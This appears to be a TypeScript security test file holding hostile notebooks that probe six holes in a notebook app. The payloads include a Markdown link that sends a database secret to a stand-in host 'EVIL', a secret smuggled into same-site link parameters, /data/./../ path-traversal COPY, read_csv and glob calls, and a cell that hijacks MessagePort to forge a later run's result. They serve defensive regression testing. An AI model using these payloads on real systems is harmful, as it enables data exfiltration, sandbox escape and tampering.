// The six holes of issue 10, as hostile notebooks: each fails on a build where its hole is open.
import type { HostileCase } from "./run-case";
import { cell, notebook, pause, statement } from "./notebook-text";

const secretExpr = "${(await sql`SELECT secret FROM clients LIMIT 1`)[0].secret}";
const counter = cell("sql n_clients", "SELECT count(*) AS n FROM clients");
const escape = "/data/./../tmp/leak.csv";

/** The six holes (hole 3 as four cases: COPY out, read back, glob, writes inside /data/). */
export const holeCases: HostileCase[] = [
  {
    name: "hole 1: a Markdown link with ${} in its destination",
    hole: 1,
    notebook: notebook([counter, `See [details](http://EVIL/d?c=${secretExpr}).`]),
    // The user follows the link and, when the app asks, says yes to leaving.
    action: async ({ page, linger }) => {
      const link = page.locator(".prose a", { hasText: "details" });
      if ((await link.count()) > 0) await link.first().click();
      const open = page.locator('[data-action="link-open"]');
      if (await open.isVisible({ timeout: 1_000 }).catch(() => false)) await open.click();
      await linger(1500);
    },
    weaken: "markdown-values",
  },
  {
    name: "hole 2: a same-site link carrying data in extra query parameters",
    hole: 2,
    notebook: notebook([counter, `[Next](?notebook=notebooks/customer-review.md&ref=${secretExpr})`]),
    action: async ({ page, linger }) => {
      const link = page.locator(".prose a", { hasText: "Next" });
      if ((await link.count()) > 0) await link.first().click();
      await linger(1500);
    },
    weaken: "link-classifier",
  },
  {
    name: "hole 3: COPY TO a /data/./../ path",
    hole: 3,
    notebook: notebook([statement("copy_out", `COPY (SELECT secret FROM clients) TO '${escape}'`)]),
    mustFail: ["copy_out"],
    weaken: "lockdown",
  },
  {
    name: "hole 3: read_csv of a /data/./../ path",
    hole: 3,
    notebook: notebook([
      cell(
        "ts read_back",
        `try { await sql\`COPY (SELECT secret FROM clients) TO '${escape}'\`; } catch {}`,
        `return (await sql\`SELECT * FROM read_csv('${escape}')\`).length;`,
      ),
    ]),
    mustFail: ["read_back"],
    weaken: "lockdown",
  },
  {
    name: "hole 3: glob('/data/./../*') lists files outside /data/",
    hole: 3,
    notebook: notebook([
      cell(
        "ts listing",
        `try { await sql\`COPY (SELECT secret FROM clients) TO '${escape}'\`; } catch {}`,
        "const files = (await sql`SELECT file FROM glob('/data/./../*')`).map((r) => String(r.file));",
        "const outside = files.filter((f) => f.includes('..') || !f.startsWith('/data/'));",
        "if (outside.length === 0) throw new Error('glob listed nothing outside /data/');",
        "return outside;",
      ),
    ]),
    mustFail: ["listing"],
    weaken: "lockdown",
  },
  {
    name: "hole 3: COPY TO overwrites a file inside /data/",
    hole: 3,
    notebook: notebook([statement("overwrite", "COPY (SELECT 'x' AS hacked) TO '/data/overwrite.csv'")]),
    mustFail: ["overwrite"],
    weaken: "lockdown",
  },
  {
    name: "hole 4: a ts cell returning 3,000,000 rows stalls the page",
    hole: 4,
    data: "none",
    notebook: notebook([cell("ts big", "return Array.from({ length: 3_000_000 }, (_, i) => ({ i, v: i * 2 }));")]),
    // The open hole froze the page for seconds (5.5 s measured); with rows crossing as Arrow the gaps
    // stay near 200 ms even on a loaded 2-core machine, where the scheduler alone makes gaps that long.
    maxStallMs: 1000,
    settleMs: 120_000,
    weaken: "arrow-rows",
  },
  {
    name: "hole 5: a select with options_from saves the picked client in the .md",
    hole: 5,
    notebook: notebook([
      cell("sql names", "SELECT name FROM clients ORDER BY name"),
      cell("input who", '{ "type": "select", "label": "Client", "options_from": "names", "value": "nobody" }'),
    ]),
    action: async ({ page }) => {
      await page.locator('[data-input="who"] select').selectOption("1", { timeout: 5_000 });
      await page.waitForTimeout(800);
      const download = page.waitForEvent("download", { timeout: 5_000 });
      await page.locator('[data-action="save-notebook"]').click();
      await download;
    },
    weaken: "remember",
  },
  {
    name: "hole 6: a cell forges the done message of a later run",
    hole: 6,
    data: "none",
    notebook: notebook([
      cell(
        "ts forger",
        "const post = MessagePort.prototype.postMessage;",
        "let port; let run = 0;",
        "MessagePort.prototype.postMessage = function (m, ...rest) {",
        "  port = this; if (m && typeof m.run === 'number') run = m.run;",
        "  return post.call(this, m, ...rest);",
        "};",
        // Any port a later run hands this Worker is taken too (a Worker that outlived its run).
        "self.addEventListener('message', (e) => { if (e.ports.length) port = e.ports[0]; });",
        "log('hello');",
        "setInterval(() => {",
        "  for (let k = run + 1; k < run + 20; k++) post.call(port, { type: 'done', run: k, value: 'FORGED' });",
        "}, 2);",
        "return 'forger';",
      ),
      cell("ts honest", pause(400), "return 'genuine';"),
    ]),
    check: async ({ page }) => {
      const value = page.locator('[data-cell="honest"] [data-role="value"]');
      const shown = await value.textContent({ timeout: 5_000 }).catch(() => null);
      return shown === "genuine" ? [] : [`the honest cell shows ${JSON.stringify(shown)}, not its own value`];
    },
    weaken: "fresh-worker",
  },
];
